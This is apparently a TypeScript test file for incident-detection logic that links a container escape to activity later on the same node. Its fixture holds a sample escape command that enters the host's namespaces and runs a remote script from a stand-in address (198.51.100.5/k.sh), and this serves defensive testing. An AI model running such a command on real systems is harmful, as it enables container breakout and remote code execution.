/** Holds when an escape explains what goes on beside the container, and when not. */
import assert from "node:assert/strict";
import { test } from "node:test";
import {
  dataContainer,
  sampleInput,
  sampleProcess,
  sampleSignal,
  sampleStep,
  webContainer,
} from "../../../testing/sample-incident.ts";
import type { ProcessFact, SignalFact } from "../../observe/detect/detect-fact.ts";
import { findEscapeLinks } from "./find-escape-links.ts";
import type { IncidentInput } from "./incident-input.ts";
import { allNames, findShared, typedNames } from "./name-book.ts";
import { gatherSessions } from "./session.ts";

const at = (name: string, second: number) => ({ process: name, entry: name, second });

type Facts = Pick<IncidentInput, "signals" | "processes" | "steps">;

function acted(name: string, second: number, line: string, given: Partial<SignalFact> = {}): Facts {
  const place = at(name, second);
  const signal = sampleSignal(place, { container: "host:node-1", host: "", ...given });
  const { container, node } = signal;
  const process: ProcessFact = sampleProcess(place, { container, node, arguments: line });
  return { signals: [signal], processes: [process], steps: [] };
}

const left = (line: string, given: Partial<SignalFact> = {}) =>
  acted("a", 0, line, { container: webContainer, family: "escape", ...given });

function linksOf(...facts: readonly Facts[]): readonly string[] {
  const input = sampleInput({
    signals: facts.flatMap(({ signals }) => signals),
    processes: facts.flatMap(({ processes }) => processes),
    steps: facts.flatMap(({ steps }) => steps),
  });
  const scene = { ...gatherSessions(input), sessionOf: () => undefined };
  return findEscapeLinks({ ...scene, listenersAt: input.listenersAt }).map(
    ({ from, to, why }) => `${from}-${to}: ${why}`,
  );
}

const line = "-t 1 -m -- systemd-run /tmp/.k http://198.51.100.5/k.sh";

test("what the escaping command named and the machine then names is one story", () => {
  const why = "it left its container, and beside it the other named";
  for (const name of ["http://198.51.100.5/k.sh", "198.51.100.5", "/tmp/.k"]) {
    assert.deepEqual(linksOf(left(line), acted("b", 60, `-c "x ${name}"`)), [
      `a-b: ${why} “${name}”, too`,
    ]);
  }
});

test("a connection to the address that the escaping command named counts, too", () => {
  const facts = acted("b", 60, "");
  const steps = [sampleStep(at("b", 60), { subject: "198.51.100.5:443" })];
  assert.equal(linksOf(left(line), { ...facts, steps }).length, 1);
  const others = [sampleStep(at("b", 60), { subject: "198.51.100.6:443" })];
  assert.deepEqual(linksOf(left(line), { ...facts, steps: others }), []);
});

test("node and time alone tie nothing, nor do the names that everybody uses", () => {
  const common = "-- curl https://localhost/x http://127.0.0.1/x https://pypi.org/ 10.0.0.5 /etc/x";
  assert.deepEqual(linksOf(left(common), acted("b", 5, common)), []);
  assert.deepEqual(linksOf(left(line), acted("b", 5, "-c true")), []);
});

test("another node, an hour later, before it, or without an escape: nothing", () => {
  const other = "-c 198.51.100.5";
  assert.deepEqual(linksOf(left(line), acted("b", 60, other, { node: "node-2" })), []);
  assert.deepEqual(linksOf(left(line), acted("b", 3700, other)), []);
  assert.deepEqual(linksOf(left(line), acted("b", -60, other)), []);
  assert.deepEqual(linksOf(left(line, { family: "discovery" }), acted("b", 60, other)), []);
  assert.deepEqual(linksOf(left(line, { level: "low" }), acted("b", 60, other)), []);
});

test("who logs in or enters comes another way; a container that was started counts", () => {
  const other = "-c 198.51.100.5";
  assert.deepEqual(linksOf(left(line), acted("b", 60, other, { entryKind: "login" })), []);
  const inside = { container: dataContainer };
  assert.deepEqual(linksOf(left(line), acted("b", 60, other, inside)), [], "a service in use");
  const made = { ...inside, entryKind: "startup" } as const;
  assert.equal(linksOf(left(line), acted("b", 60, other, made)).length, 1);
  const same = { container: webContainer, entryKind: "startup" } as const;
  assert.deepEqual(linksOf(left(line), acted("b", 60, other, same)), [], "not beside it");
});

test("names are bounded, and the first of the first set is the shared one", () => {
  const many = Array.from({ length: 600 }, (_, at) => `/tmp/${at}`).join(" ");
  const process = (text: string) => sampleProcess(at("a", 0), { arguments: text });
  assert.equal(typedNames({ processes: [process(many)] }).size <= 256, true);
  const names = allNames({ processes: [process("/dev/shm/x /var/tmp/y /opt/z")], steps: [] });
  assert.deepEqual([...names], ["/dev/shm/x", "/var/tmp/y"]);
  assert.equal(findShared(names, new Set(["/var/tmp/y", "/dev/shm/x"])), "/dev/shm/x");
  assert.equal(findShared(names, new Set()), "");
});
